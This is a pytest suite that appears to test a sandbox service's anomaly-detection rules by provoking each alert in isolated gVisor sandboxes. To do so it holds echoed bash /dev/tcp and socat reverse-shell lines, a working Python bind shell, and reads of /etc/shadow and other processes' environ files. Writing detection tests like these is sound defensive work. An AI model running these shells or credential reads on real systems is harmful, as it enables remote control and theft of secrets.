"""Anomaly detection end to end, part two, through the real e2b SDK and real gVisor sandboxes:
incidents (one attack, one alert with a count and every rule that fired in it), and the
detections built on the metrics samples, volume sums, chmod system calls and accepted sockets:
sustained full CPU, outbound volume, setuid by chmod(2) (`setuid_chmod_syscall`), a bind
shell, and a process reading its own /proc/<pid>/environ raising nothing while reading
another's does.

One networked `kiln serve` with the built-in pack, its CPU rule's time and threshold lowered for
a test (`for: 2m` → 6 s and 90 % → 25 %: the shared 2-core test machine cannot promise a
sandbox 90 % of its CPUs, and one busy process leaves the server that samples it a core),
samples every second; a test internet of its own (namespace
`ktrules2`, 198.51.100.224/29 only) with a sink that swallows uploads."""

import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
import time

import pytest

from .conftest import kiln_bin
from .internet import net_server_in, require_root
from .rules_support import alerts
from .testnet import NetNs

NS = "ktrules2"
HOST_SIDE = "198.51.100.230"
SINK = "198.51.100.225"
DNS = "198.51.100.226"
RANGE = "10.173.0.0/24"
AUDIT_SYSCALLS = {"kiln.audit.syscalls": "true"}
CPU_PCT = 25

# Reads every connection on :9000 to its end and answers with the byte count.
SINK_SERVER = textwrap.dedent("""
    import socketserver, sys
    class H(socketserver.BaseRequestHandler):
        def handle(self):
            n = 0
            while True:
                b = self.request.recv(1 << 20)
                if not b:
                    break
                n += len(b)
    socketserver.ThreadingTCPServer.allow_reuse_address = True
    socketserver.ThreadingTCPServer((sys.argv[1], 9000), H).serve_forever()
""")


@pytest.fixture(scope="module")
def net():
    require_root()
    ns = NetNs(NS, "ktrules20", f"{HOST_SIDE}/29", [f"{a}/29" for a in (SINK, DNS)], HOST_SIDE)
    try:
        ns.up()
        ns.spawn(sys.executable, "-c", SINK_SERVER, SINK)
        ns.dns(DNS, {"sink.test": SINK})
        yield ns
    finally:
        ns.down()


@pytest.fixture(scope="module")
def srv(net):
    base = tempfile.mkdtemp(prefix="kiln-rules-more-")
    pack = subprocess.run([kiln_bin(), "rules", "default"], capture_output=True, text=True, check=True).stdout
    assert "  for: 2m\n" in pack and "cpuPct >= 90" in pack
    pack = pack.replace("  for: 2m\n", "  for: 6s\n").replace("cpuPct >= 90", f"cpuPct >= {CPU_PCT}")
    path = os.path.join(base, "rules.yaml")
    with open(path, "w") as f:
        f.write(pack)
    try:
        with net_server_in("rules more", RANGE, ["--rules", path, "--metrics-interval", "1"], DNS) as s:
            assert "anomaly detection: 31 rules" in s.log(), s.log()
            yield s
    finally:
        shutil.rmtree(base, ignore_errors=True)


def wait_alerts(srv, sandbox_id, done, timeout=15.0):
    """The sandbox's alerts once `done(alerts)` holds (or at the timeout)."""
    deadline, got = time.time() + timeout, []
    while time.time() < deadline:
        got = alerts(srv, sandbox_id)
        if done(got):
            break
        time.sleep(0.2)
    return got


def chain_alerts(srv, sandbox_id):
    status, page, _ = srv.request("GET", f"/sandboxes/{sandbox_id}/audit?kind=lifecycle&limit=1000")
    assert status == 200, page
    return [r["body"] for r in page["records"] if r["body"].get("event") == "alert"]


def test_one_attack_is_one_incident(srv):
    from e2b import Sandbox

    sbx = Sandbox.create(timeout=120, **srv.opts())
    try:
        # Four reverse-shell command lines (only echoed) of two rules, one incident; a shadow
        # read is another incident.
        for line in ["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"] * 3 + ["socat tcp:198.51.100.7:4444 exec:/bin/sh"]:
            sbx.commands.run(f"echo '{line}' > /dev/null")
        sbx.commands.run("cat /etc/shadow > /dev/null 2>&1 || true")
        got = wait_alerts(srv, sbx.sandbox_id, lambda a: sum(x["count"] for x in a) >= 5)
        assert len(got) == 2, got
        shell, shadow = got
        assert (shell["incident"], shell["count"]) == ("remote_shell", 4), shell
        assert shell["rule"] == "reverse_shell_dev_tcp"
        assert shell["rules"] == ["reverse_shell_dev_tcp", "reverse_shell_netcat_exec"], shell
        assert len(shell["records"]) == 4 and shell["firstSeen"] == shell["timestamp"]
        assert shell["lastSeen"] > shell["firstSeen"], shell
        assert (shadow["incident"], shadow["count"], shadow["rules"]) == ("credential_access", 1, ["read_shadow"])
        # Found by any of its rules; one event (and webhook) per incident; every firing on
        # the chain under the incident's alert id.
        status, page, _ = srv.request("GET", f"/alerts?sandboxID={sbx.sandbox_id}&rule=reverse_shell_netcat_exec")
        assert [a["id"] for a in page["alerts"]] == [shell["id"]], page
        status, ev, _ = srv.request("GET", f"/events?sandboxId={sbx.sandbox_id}&type=alert")
        assert len(ev["events"]) == 2, ev
        on_chain = chain_alerts(srv, sbx.sandbox_id)
        assert sorted((b["alertID"], b["count"]) for b in on_chain if b["incident"] == "remote_shell") == \
            [(shell["id"], n) for n in (1, 2, 3, 4)], on_chain
        # The CLI shows the count.
        env = {**os.environ, "KILN_URL": srv.url, "KILN_API_KEY": srv.api_key}
        r = subprocess.run([kiln_bin(), "alerts", "--sandbox", sbx.sandbox_id], capture_output=True,
                           text=True, env=env, timeout=60)
        assert r.returncode == 0, r
        assert "(x4: reverse_shell_dev_tcp,reverse_shell_netcat_exec;" in r.stdout, r.stdout
    finally:
        sbx.kill()


def test_sustained_full_cpu(srv):
    from e2b import Sandbox

    sbx = Sandbox.create(timeout=120, **srv.opts())
    try:
        # One busy process: half of a 2-CPU sandbox, over the lowered threshold, and a host
        # core left for the server that samples it.
        sbx.commands.run("timeout 40 sh -c 'while :; do :; done'", background=True, timeout=0)
        got = wait_alerts(srv, sbx.sandbox_id, lambda a: a, timeout=40)
        if not got:
            status, samples, _ = srv.request("GET", f"/sandboxes/{sbx.sandbox_id}/metrics")
            print("CPU samples:", [(m["timestamp"], m["cpuUsedPct"]) for m in samples] if status == 200 else samples)
        assert [a["rule"] for a in got] == ["sustained_full_cpu"], got
        assert got[0]["incident"] == "crypto_mining" and got[0]["records"] == [], got
        assert "CPUs, 2 minutes without a break" in got[0]["output"], got
    finally:
        sbx.kill()
    # An idle sandbox raises nothing.
    idle = Sandbox.create(timeout=60, **srv.opts())
    try:
        time.sleep(10)
        assert alerts(srv, idle.sandbox_id) == []
    finally:
        idle.kill()


def test_outbound_volume(srv):
    from e2b import Sandbox

    sbx = Sandbox.create(timeout=120, **srv.opts())
    try:
        upload = ("python3 -c \"import socket; c = socket.create_connection(('sink.test', 9000), timeout=60); "
                  "c.sendall(b'x' * 40_000_000); c.close()\"")
        sbx.commands.run(upload, timeout=90)
        sbx.commands.run(upload, timeout=90)
        time.sleep(1.5)
        assert alerts(srv, sbx.sandbox_id) == [], "80 MB is under the threshold"
        sbx.commands.run(upload, timeout=90)
        got = wait_alerts(srv, sbx.sandbox_id, lambda a: a)
        assert [a["rule"] for a in got] == ["outbound_volume"], got
        assert f"40000000 bytes to {SINK}:9000" in got[0]["output"], got
        assert len(got[0]["records"]) == 3, got
    finally:
        sbx.kill()


SETUID = """
import os
open("/tmp/tool", "w").close()
os.chmod("/tmp/tool", 0o755)
os.chmod("/tmp/tool", 0o4755)
"""


def test_setuid_by_a_chmod_system_call(srv):
    from e2b import Sandbox

    sbx = Sandbox.create(timeout=120, metadata=AUDIT_SYSCALLS, **srv.opts())
    try:
        sbx.files.write("/tmp/job.py", SETUID)
        sbx.commands.run("python3 /tmp/job.py && chmod 644 /tmp/job.py")
        got = wait_alerts(srv, sbx.sandbox_id, lambda a: a)
        time.sleep(1.0)
        got = alerts(srv, sbx.sandbox_id)
        assert [(a["rule"], a["count"]) for a in got] == [("setuid_chmod_syscall", 1)], got
        assert got[0]["output"] == f"setuid/setgid mode set in sandbox {sbx.sandbox_id}: chmod mode 4755", got
    finally:
        sbx.kill()


BIND_SHELL = """
import os, socket, subprocess
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 4445))
s.listen(1)
c, _ = s.accept()
for fd in (0, 1, 2):
    os.dup2(c.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
"""

CLIENT = """
import socket, time
for _ in range(100):
    try:
        c = socket.create_connection(("127.0.0.1", 4445), timeout=10)
        break
    except OSError:
        time.sleep(0.1)
c.sendall(b"echo pwned-$((6*7)); exit\\n")
data = b""
while True:
    b = c.recv(4096)
    if not b:
        break
    data += b
print(data.decode(errors="replace"))
"""


def test_a_bind_shell(srv):
    from e2b import Sandbox

    sbx = Sandbox.create(timeout=120, metadata=AUDIT_SYSCALLS, **srv.opts())
    try:
        sbx.files.write("/tmp/bind.py", BIND_SHELL)
        sbx.files.write("/tmp/client.py", CLIENT)
        sbx.commands.run("timeout 30 python3 /tmp/bind.py", background=True, timeout=0)
        out = sbx.commands.run("timeout 30 python3 /tmp/client.py", timeout=40).stdout
        assert "pwned-42" in out, out
        got = wait_alerts(srv, sbx.sandbox_id, lambda a: a and a[0]["count"] >= 3)
        assert len(got) == 1, got
        assert (got[0]["rules"], got[0]["incident"], got[0]["count"]) == \
            (["bind_shell_stdio_socket"], "remote_shell", 3), got
        assert "accepted from 127.0.0.1:" in got[0]["output"], got
    finally:
        sbx.kill()


OWN_ENV = """
import os
open(f"/proc/{os.getpid()}/environ", "rb").read()
open("/proc/self/environ", "rb").read()
"""

OTHER_ENV = """
import subprocess
p = subprocess.Popen(["sleep", "30"])
open(f"/proc/{p.pid}/environ", "rb").read()
p.kill()
"""


def test_own_environ_is_not_another_process_environ(srv):
    from e2b import Sandbox

    sbx = Sandbox.create(timeout=120, metadata=AUDIT_SYSCALLS, **srv.opts())
    try:
        sbx.files.write("/tmp/own.py", OWN_ENV)
        sbx.files.write("/tmp/other.py", OTHER_ENV)
        sbx.commands.run("python3 /tmp/own.py && tr '\\0' '\\n' < /proc/self/environ > /dev/null")
        time.sleep(1.5)
        assert alerts(srv, sbx.sandbox_id) == []
        sbx.commands.run("python3 /tmp/other.py")
        got = wait_alerts(srv, sbx.sandbox_id, lambda a: a)
        assert [a["rule"] for a in got] == ["other_process_environ"], got
        assert "/environ" in got[0]["output"], got
    finally:
        sbx.kill()


MIXED_CREDS = """
import os
os.setresuid(1000, 0, 0)
open("/etc/hostname").close()
"""


def test_root_that_did_not_come_from_the_api_or_the_broker(srv):
    """A process whose effective uid is root while its real uid is the user's (what a setuid-root
    program is) alerts; root from the API and from kiln's sudo broker (real uid root as well)
    does not. This gVisor does not honour setuid bits (a setuid-root `su` keeps the user's
    uids), so the mixed credentials are made the other way round: a root process sets its
    real uid to the user's and keeps root's effective uid."""
    from e2b import Sandbox

    sbx = Sandbox.create(timeout=120, metadata=AUDIT_SYSCALLS, **srv.opts())
    try:
        assert sbx.commands.run("sudo id -u && id -u", user="user").stdout.split() == ["0", "1000"]
        sbx.commands.run("id -u && cat /etc/hostname", user="root")
        sbx.commands.run("su --version", user="user")
        time.sleep(2.0)
        assert alerts(srv, sbx.sandbox_id) == []
        status, page, _ = srv.request("GET", f"/sandboxes/{sbx.sandbox_id}/audit?kind=syscall&limit=1000")
        assert status == 200, page
        su = [r["body"] for r in page["records"] if r["body"].get("process") == "su"]
        assert su and all((b["uid"], b["euid"]) == (1000, 1000) for b in su), su[:3]
        sbx.files.write("/tmp/mixed.py", MIXED_CREDS)
        sbx.commands.run("python3 /tmp/mixed.py", user="root")
        got = wait_alerts(srv, sbx.sandbox_id, lambda a: a)
        assert [(a["rule"], a["incident"], a["priority"]) for a in got] == \
            [("root_without_the_broker", "privilege_escalation", "critical")], got
        assert got[0]["output"].startswith("python3 (pid "), got
        assert "runs as root with real uid 1000" in got[0]["output"], got
        assert "(openat /etc/hostname)" in got[0]["output"], got
    finally:
        sbx.kill()


def test_a_refused_sudo(srv):
    """The broker's refusals reach the server as `sudo-refused` events and alert, with no
    syscall auditing; a granted sudo raises nothing."""
    from e2b import Sandbox

    sbx = Sandbox.create(timeout=120, **srv.opts())
    try:
        assert sbx.commands.run("sudo -n true && echo granted", user="user").stdout.strip() == "granted"
        r = sbx.commands.run("sudo -n id -u; echo rc=$?", user="nobody")
        print(r.stdout, r.stderr)
        assert "rc=1" in r.stdout, r
        got = wait_alerts(srv, sbx.sandbox_id, lambda a: a)
        assert [(a["rule"], a["priority"]) for a in got] == [("sudo_refused", "warning")], got
        assert "user nobody" in got[0]["output"] and "as root (no rule allows it)" in got[0]["output"], got
        status, ev, _ = srv.request("GET", f"/events?sandboxId={sbx.sandbox_id}&type=sudo-refused")
        assert status == 200 and len(ev["events"]) == 1, ev
    finally:
        sbx.kill()
